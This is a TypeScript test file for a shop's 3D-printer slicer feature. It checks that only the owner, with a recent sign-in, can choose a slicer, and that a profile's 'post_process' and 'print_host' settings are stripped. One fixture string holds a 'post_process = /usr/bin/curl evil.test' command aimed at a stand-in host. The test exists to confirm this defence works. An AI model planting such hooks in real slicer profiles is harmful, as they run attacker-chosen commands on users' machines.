import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { chooseSlicer } from '../../../../server/production/slicer/choose-slicer.ts'
import { listProfiles } from '../../../../server/production/slicer/slicer-store.ts'
import {
  addProfile,
  choose,
  closeSlicerShop,
  CONFIG,
  openSlicerShop,
  owner,
  packer,
  refused,
  standIn,
  testShop,
} from './slicer-shop.ts'

beforeEach(openSlicerShop)
afterEach(closeSlicerShop)

describe('the slicer of the shop', () => {
  test('is named by the owner only, with a sign-in of the last minutes, and is in the security log', async () => {
    const path = standIn('')
    expect((await refused(chooseSlicer(testShop.shop, packer, { path, automatic: true }))).code).toBe(
      'role_required',
    )
    await choose(path)
    expect(
      testShop.database.all("select actor_id, details from events where what = 'slicer chosen'"),
    ).toEqual([
      { actor_id: owner.kind === 'account' ? owner.account_id : '', details: JSON.stringify({ name: path }) },
    ])
    testShop.wait(3600)
    await choose(path, false)
    await choose(null)
    expect((await refused(choose(path))).code).toBe('confirmation_required')
  })

  test('loses what a profile would run, and the owner is told', async () => {
    const { removed } = addProfile(`${CONFIG}post_process = /usr/bin/curl evil.test\nprint_host = 10.0.0.9\n`)
    expect(removed.map(({ setting }) => setting)).toEqual(['post_process', 'print_host'])
    expect(listProfiles(testShop.database, { model: '', printer_id: 'p1' })[0].body).not.toMatch(
      /post_process|print_host/,
    )
  })
})
